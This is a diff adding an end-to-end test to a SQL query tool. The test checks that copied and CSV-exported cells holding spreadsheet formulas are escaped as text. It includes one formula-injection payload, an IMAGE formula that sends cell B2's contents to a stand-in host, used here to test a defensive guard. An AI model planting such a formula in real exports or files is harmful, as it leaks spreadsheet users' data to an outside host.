@@ -329,6 +329,19 @@ describe('the person’s own queries', () => {
       /^5 rows · [\d.,]+ m?s$/,
     );
     expect(await listed.last().locator('.line .muted').innerText()).toMatch(/^failed · /);
+
+    // A cell that a sheet would run once pasted leaves as text, in the copy as in the file
+    // (issue 46); a number written as text stays a number.
+    const formula = `SELECT '=IMAGE("http://x.example/?d="&B2)' AS f, '-9007199254740993' AS n`;
+    expect(await runSql(own, formula)).toMatchObject({ ok: true, rows: 1 });
+    await result.locator('[data-testid="copy"]').click();
+    await expect
+      .poll(() => own.evaluate(() => navigator.clipboard.readText()))
+      .toBe(`f\tn\n'=IMAGE("http://x.example/?d="&B2)\t-9007199254740993\n`);
+    const guarded = await downloaded(own, result.locator('[data-testid="table-csv"]'));
+    expect(guarded.toString('utf8')).toBe(
+      `f,n\r\n"'=IMAGE(""http://x.example/?d=""&B2)",-9007199254740993\r\n`,
+    );
   });
 });
 
